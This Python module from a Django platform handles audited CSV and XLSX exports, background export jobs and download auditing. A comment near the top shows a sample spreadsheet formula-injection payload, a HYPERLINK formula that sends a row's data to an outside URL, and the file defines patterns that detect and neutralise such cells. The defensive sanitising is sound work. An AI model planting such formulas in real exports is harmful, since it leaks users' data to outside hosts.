"""Exports: tables (CSV for Excel with a BOM, and XLSX), streamed so that large lists do not sit in memory, and
files (PDF bulletins, stored reports).

Every export leaves the platform through ``audited_export`` (a table) or ``audited_file`` (a file), which write
exactly one audit record (action ``export``) through ``record_export``; a command that writes files itself calls
``record_export``. Callers pass rows already scoped and masked by their selectors.

Large tables (issue 21 item 8): a caller that names its rows by an ``@export_source`` function lets
``audited_export`` hand an export of more than ``FUPIN_EXPORT_BACKGROUND_ROWS`` rows to the background worker
(``ExportJob``, ``run_export_job``): the user is sent to a progress page (``/exports/<token>/``) and downloads the
file from there; only that user can, each download audited once (``download``); the file is deleted a day later
(``purge_expired``). A file of several tables (the registry in its three-sheet template) is written by an
``@export_writer`` function and queued with ``start_export`` in the same way."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import os
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from pathlib import Path
from typing import IO, Any, TypeVar, cast

from django.conf import settings
from django.db.models import Model
from django.http import FileResponse, HttpResponse, HttpResponseRedirect, StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.module_loading import import_string
from django_tasks import task

from fupin.core import xlsxout
from fupin.core.audit import set_channel
from fupin.core.models import ExportJob
from fupin.core.recovery import on_abandoned

# Formula injection (CSV/Excel): a cell starting with = + - @ (or a tab or carriage return before one) is run
# as a formula by spreadsheet programs: ``=HYPERLINK("http://…"&A1,"点击")`` sends the row away. Such text is
# written with a leading apostrophe (shown as text); plain numbers like -12.5 stay numbers. Control
# characters that XML cannot hold (NUL…) are dropped, so that one bad value cannot break a whole workbook.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CONTENT_TYPES = {"xlsx": XLSX, "csv": "text/csv; charset=utf-8", "zip": "application/zip"}
FORMULA_PATTERN = r"^[=+\-@\t\r＝＋－＠]"
NUMBER_PATTERN = r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$"


def safe_cell(value: Any) -> Any:
    """A value made safe for a CSV or Excel cell (see above); non-text values are returned as they are."""
    if not isinstance(value, str):
        return value
    value = _ILLEGAL.sub("", value)
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def safe_expr(column: str) -> Any:
    """``safe_cell`` as a polars expression over a text column (for exports written by polars)."""
    import polars as pl

    col = pl.col(column).str.replace_all(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "")
    risky = col.str.contains(FORMULA_PATTERN) & ~col.str.contains(NUMBER_PATTERN)
    return pl.when(risky).then(pl.lit("'") + col).otherwise(col).alias(column)


def safe_frame(frame: Any) -> Any:
    """Every text column of a polars frame made safe with ``safe_expr``."""
    import polars as pl

    return frame.with_columns([safe_expr(name) for name, dtype in frame.schema.items() if dtype == pl.Utf8])


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The lines of a CSV file for Excel: a BOM, the header, the rows, every cell made safe."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> StreamingHttpResponse:
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def write_xlsx(target: Path | IO[bytes], header: Sequence[str], rows: Iterable[Sequence[Any]], title: str = "Sheet1",
               notes: Sequence[str] = ()) -> None:
    """One sheet: the header in bold, the rows, then after a blank row the ``notes`` (what the figures are as of).
    Numbers (int, Decimal, float) and dates stay numbers and dates for Excel; text is made safe (``safe_cell``).
    Streamed row by row (``core.xlsxout``)."""
    tail: list[Sequence[Any]] = [[], *[[n] for n in notes]] if notes else []
    xlsxout.write(target, safe_row(header), (safe_row(r) for r in itertools.chain(rows, tail)), title=title)


def xlsx_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]], title: str = "Sheet1",
                  notes: Sequence[str] = ()) -> HttpResponse:
    """An .xlsx workbook of one sheet (``write_xlsx``) as a download."""
    buf = io.BytesIO()
    write_xlsx(buf, header, rows, title=title, notes=notes)
    response = HttpResponse(buf.getvalue(), content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


def record_export(
    *, actor: Any, what: str, fmt: str, region_code: str = "", obj: Model | None = None, object_id: str = "",
    summary: str = "", detail: dict[str, Any] | None = None,
) -> None:
    """The one audit record of an export: who, what (``app.model`` of the rows), which region, which format."""
    from fupin.core import audit
    from fupin.core.models import AuditEvent

    audit.record(actor=actor, action=AuditEvent.Action.EXPORT, obj=obj, object_type=what, object_id=object_id,
                 region_code=region_code, summary=summary or f"{what} export ({fmt})",
                 detail={"format": fmt, **(detail or {})})


def audited_export(
    *, actor: Any, what: str, fmt: str, filename: str, header: Sequence[str],
    rows: Iterable[Sequence[Any]] | None = None, source: Callable[..., Iterable[Sequence[Any]]] | None = None,
    params: dict[str, Any] | None = None, count: int | None = None, region_code: str = "", obj: Model | None = None,
    object_id: str = "", summary: str = "", detail: dict[str, Any] | None = None, title: str = "Sheet1",
    notes: Sequence[str] = (),
) -> HttpResponseBase:
    """A table as CSV (any ``fmt`` but ``xlsx``, streamed) or XLSX, audited once before the first row is sent;
    ``notes`` (what the figures are as of) follow the rows after a blank one.

    A list that can be large names its rows by ``source`` (a function marked ``@export_source``, called as
    ``source(actor, **params)``; ``params`` JSON) instead of ``rows``, and gives its ``count`` when a COUNT is cheap
    (otherwise the first rows are read to find out). More rows than ``FUPIN_EXPORT_BACKGROUND_ROWS``: the export
    is queued as a background job (``start_export``) and the answer is a redirect to its progress page; the job
    writes the same file, which the user downloads there — audited then, once per download."""
    fmt = "xlsx" if fmt == "xlsx" else "csv"
    if source is not None:
        params = params or {}
        limit = background_rows()
        large = count > limit if count is not None else None
        if not large:
            rows = source(actor, **params)
        if large is None:  # no count: read up to the limit and look whether there is more
            it = iter(rows or ())
            head = list(itertools.islice(it, limit + 1))
            large = len(head) > limit
            rows = itertools.chain(head, it)
        if large:
            job = start_export(
                actor=actor, what=what, fmt=fmt, filename=filename, header=header, source=source, params=params,
                total=count, region_code=region_code, object_id=object_id or (str(obj.pk) if obj is not None else ""),
                summary=summary, detail=detail, title=title, notes=notes)
            return HttpResponseRedirect(reverse("export_job", args=[job.token]))
    if rows is None:
        raise TypeError("audited_export needs rows or a source")
    record_export(actor=actor, what=what, fmt=fmt, region_code=region_code, obj=obj, object_id=object_id,
                  summary=summary, detail=detail)
    if fmt == "xlsx":
        return xlsx_response(filename, header, rows, title=title, notes=notes)
    tail: list[Sequence[Any]] = [[], *[[n] for n in notes]] if notes else []
    return csv_response(filename, header, itertools.chain(rows, tail))


def audited_file(
    *, actor: Any, what: str, filename: str, content: bytes | Path, content_type: str, inline: bool = False,
    region_code: str = "", obj: Model | None = None, summary: str = "", detail: dict[str, Any] | None = None,
) -> HttpResponse | FileResponse:
    """A finished file (bytes, or a stored file streamed from disk), audited once."""
    record_export(actor=actor, what=what, fmt=filename.rsplit(".", 1)[-1], region_code=region_code, obj=obj,
                  summary=summary, detail=detail)
    if isinstance(content, Path):
        return FileResponse(content.open("rb"), as_attachment=not inline, filename=filename,
                            content_type=content_type)
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'{"inline" if inline else "attachment"}; filename="{filename}"'
    return response


# --- large exports as background jobs (issue 21 item 8) -----------------------------------------------------------

SOURCE_MARK = "fupin_export_source"
S = TypeVar("S", bound=Callable[..., Any])


def export_source(fn: S) -> S:
    """Mark a module-level function ``fn(user, **params) -> rows`` as the rows of an export that the background
    worker may compute (it is found again by its dotted path; nothing else is ever called by a job)."""
    setattr(fn, SOURCE_MARK, True)
    return fn


def _source_path(fn: Callable[..., Any]) -> str:
    path = f"{fn.__module__}.{fn.__qualname__}"
    if not getattr(fn, SOURCE_MARK, False) or "<" in path:
        raise ValueError(f"{path} is not a module-level function marked @export_source")
    return path


WRITER_MARK = "fupin_export_writer"


def export_writer(fn: S) -> S:
    """Mark a module-level function ``fn(user, target, progress, **params) -> rows`` that writes a whole file
    itself (a workbook of several sheets, a zip of CSV files) to the path ``target``, calling ``progress(rows)`` as
    it goes, as the work of a background export (``start_export(source=fn, ...)``)."""
    setattr(fn, SOURCE_MARK, True)
    setattr(fn, WRITER_MARK, True)
    return fn


def _source(path: str) -> Callable[..., Iterable[Sequence[Any]]]:
    fn = import_string(path)
    if not getattr(fn, SOURCE_MARK, False):
        raise ValueError(f"{path} is not marked @export_source")
    return cast(Callable[..., Iterable[Sequence[Any]]], fn)


def background_rows() -> int:
    return int(getattr(settings, "FUPIN_EXPORT_BACKGROUND_ROWS", 5000))


def export_dir() -> Path:
    return Path(settings.VAR_DIR) / "exports"


def export_path(job: ExportJob) -> Path:
    return export_dir() / f"{job.token}.{job.fmt}"


def _partial_path(job: ExportJob) -> Path:
    return export_dir() / f"{job.token}.part"


def start_export(
    *, actor: Any, what: str, fmt: str, filename: str, header: Sequence[str],
    source: Callable[..., Any], params: dict[str, Any], total: int | None = None,
    region_code: str = "", object_id: str = "", summary: str = "", detail: dict[str, Any] | None = None,
    title: str = "Sheet1", notes: Sequence[str] = (),
) -> ExportJob:
    """Record the export and queue ``run_export_job``. The header, notes and file name are kept as the user's
    language has them now; the worker computes the rows in that language."""
    purge_expired()
    params = json.loads(json.dumps(params))  # JSON only: what the job will see is what was checked here
    job = ExportJob.objects.create(
        actor=actor, username=getattr(actor, "username", ""), what=what, fmt=fmt if fmt in CONTENT_TYPES else "csv",
        filename=str(filename)[:200], source=_source_path(source), params=params, header=[str(h) for h in header],
        title=str(title)[:31], notes=[str(n) for n in notes], language=translation.get_language() or "",
        region_code=region_code or "", object_id=str(object_id)[:64], summary=str(summary)[:300],
        detail=json.loads(json.dumps(detail or {}, default=str)), total=total,
    )
    run_export_job.enqueue(job.pk)
    return job


class _Counted:
    """The rows of a job, counted, with the count saved on the job every ``every`` rows."""

    def __init__(self, rows: Iterable[Sequence[Any]], job_id: int, every: int) -> None:
        self.rows, self.job_id, self.every, self.n = rows, job_id, max(1, every), 0

    def __iter__(self) -> Iterator[Sequence[Any]]:
        for row in self.rows:
            yield row
            self.n += 1
            if self.n % self.every == 0:
                ExportJob.objects.filter(pk=self.job_id).update(done_rows=self.n)


@task()
def run_export_job(job_id: int) -> str:
    """The background worker's export: the rows of the job's source for its user, written to a partial file that
    becomes ``VAR_DIR/exports/<token>.<fmt>`` when complete. Run again (after a stopped worker) it starts over."""
    set_channel("task:export")
    job = ExportJob.objects.select_related("actor").get(pk=job_id)
    if job.status in (ExportJob.Status.DONE, ExportJob.Status.EXPIRED):
        return str(job.status)
    ExportJob.objects.filter(pk=job_id).update(status=ExportJob.Status.RUNNING, started_at=timezone.now(),
                                               done_rows=0, message="")
    part, final = _partial_path(job), export_path(job)
    try:
        if job.actor is None or not job.actor.is_active:
            raise PermissionError("the user who asked for the export no longer exists or is inactive")
        fn = _source(job.source)
        part.parent.mkdir(parents=True, exist_ok=True)
        with translation.override(job.language or settings.LANGUAGE_CODE):
            if getattr(fn, WRITER_MARK, False):
                def progress(n: int) -> None:
                    ExportJob.objects.filter(pk=job_id).update(done_rows=n)

                written = int(cast(Callable[..., int], fn)(job.actor, part, progress, **job.params))
            else:
                counted = _Counted(fn(job.actor, **job.params), job_id,
                                   int(getattr(settings, "FUPIN_EXPORT_PROGRESS_ROWS", 1000)))
                if job.fmt == "xlsx":
                    write_xlsx(part, job.header, counted, title=job.title or "Sheet1", notes=job.notes)
                else:
                    tail: list[Sequence[Any]] = [[], *[[n] for n in job.notes]] if job.notes else []
                    with part.open("w", encoding="utf-8", newline="") as out:
                        out.writelines(csv_lines(job.header, itertools.chain(counted, tail)))
                written = counted.n
        os.replace(part, final)  # the download sees the whole file or none
    except Exception as exc:
        part.unlink(missing_ok=True)
        ExportJob.objects.filter(pk=job_id).update(
            status=ExportJob.Status.FAILED, message=f"{type(exc).__name__}: {exc}"[:2000], finished_at=timezone.now())
        raise
    ExportJob.objects.filter(pk=job_id).update(status=ExportJob.Status.DONE, done_rows=written, total=written,
                                               size=final.stat().st_size, finished_at=timezone.now())
    return str(ExportJob.Status.DONE)


@on_abandoned("fupin.core.exports.run_export_job")
def _export_abandoned(args: list[Any], kwargs: dict[str, Any], reason: str) -> None:
    """The worker stopped twice in the middle of this export (core.recovery): the job is failed with the reason and
    its partial file removed."""
    job_id = int(args[0] if args else kwargs["job_id"])
    job = ExportJob.objects.filter(pk=job_id).first()
    if job is None or job.status in (ExportJob.Status.DONE, ExportJob.Status.EXPIRED):
        return
    _partial_path(job).unlink(missing_ok=True)
    ExportJob.objects.filter(pk=job_id).update(status=ExportJob.Status.FAILED, message=reason,
                                               finished_at=timezone.now())


def keep_for() -> dt.timedelta:
    return dt.timedelta(hours=int(getattr(settings, "FUPIN_EXPORT_KEEP_HOURS", 24)))


def purge_expired(now: dt.datetime | None = None) -> int:
    """Delete the files of the exports asked for longer ago than ``FUPIN_EXPORT_KEEP_HOURS`` (marked expired; a job
    still queued or running is left alone), and forget the expired jobs after 30 days. Run whenever an export is
    queued or the exports are looked at, so no scheduler is needed. Returns the number of files deleted."""
    now = now or timezone.now()
    cutoff = now - keep_for()
    old = list(ExportJob.objects.filter(
        created_at__lt=cutoff, status__in=[ExportJob.Status.DONE, ExportJob.Status.FAILED]).only("pk", "token", "fmt"))
    for job in old:
        export_path(job).unlink(missing_ok=True)
        _partial_path(job).unlink(missing_ok=True)
    if old:
        ExportJob.objects.filter(pk__in=[j.pk for j in old]).update(status=ExportJob.Status.EXPIRED)
    # Read first, write only when there is something to do: the progress page polls this every second, and on
    # SQLite even a DELETE of nothing takes the database's write lock, which a running import may hold for minutes.
    forgotten = list(ExportJob.objects.filter(status=ExportJob.Status.EXPIRED, created_at__lt=now - dt.timedelta(days=30))
                     .values_list("pk", flat=True)[:1000])
    if forgotten:
        ExportJob.objects.filter(pk__in=forgotten).delete()
    return len(old)


def download(job: ExportJob, actor: Any) -> FileResponse:
    """The finished file of ``job`` for the user who asked for it (the caller checks), audited once per download
    like any export."""
    detail = {**job.detail, "rows": job.done_rows, "export_job": job.pk}
    record_export(actor=actor, what=job.what, fmt=job.fmt, region_code=job.region_code, object_id=job.object_id,
                  summary=job.summary, detail=detail)
    return FileResponse(export_path(job).open("rb"), as_attachment=True, filename=job.download_name,
                        content_type=CONTENT_TYPES[job.fmt])
